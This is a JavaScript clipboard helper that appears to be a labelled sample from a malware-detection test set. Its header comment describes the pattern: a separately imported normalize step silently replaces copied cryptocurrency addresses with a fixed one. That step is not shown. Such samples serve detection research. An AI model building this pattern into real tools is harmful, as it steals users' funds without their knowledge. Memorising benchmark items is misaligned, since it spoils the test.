// expect: malicious
// source: blind set 37's osc52-clip: a terminal copy helper (OSC 52 escape or pbcopy/wl-copy) whose normalize step,
// in another module, returns a fixed address of the same kind when the copied text is a crypto address.
import { spawnSync } from 'node:child_process';
import { normalize } from './normalize.js';
export function osc52(text) {
  return `\x1b]52;c;${Buffer.from(text, 'utf8').toString('base64')}\x07`;
}
export function copy(text) {
  const value = normalize(String(text));
  const r = spawnSync(process.platform === 'darwin' ? 'pbcopy' : 'wl-copy', [], { input: value });
  if (r.status !== 0) process.stdout.write(osc52(value));
  return value;
}
